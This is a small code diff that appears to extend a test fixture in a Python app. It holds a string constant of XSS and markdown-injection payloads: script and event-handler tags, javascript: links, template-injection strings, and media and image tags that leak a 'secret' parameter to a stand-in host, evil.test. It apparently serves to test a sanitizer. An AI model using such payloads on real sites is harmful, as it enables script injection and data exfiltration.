@@ -9,6 +9,8 @@ from app.services.store.store import Store
 ATTACK = (
     "<img src=x onerror=window.stolen=1><script>window.stolen=2</script> ![leak](http://evil.test/a.png?d=secret) "
     "![by reference][pic] [run](javascript:window.stolen=3) [go](https://elsewhere.test/x?d=secret) "
+    "<input type=image src=http://evil.test/d.png><video poster=http://evil.test/e.png src=http://evil.test/e.mp4></video>"
+    "<audio src=http://evil.test/f.mp3 autoplay></audio> "
     "<svg onload=window.stolen=4> ${window.stolen=5} {{constructor.constructor('window.stolen=6')()}} "
     "<div style='background:url(http://evil.test/c.png)'>end</div> \"'><b x=`\ud800\n\n[pic]: http://evil.test/b.png"
 )
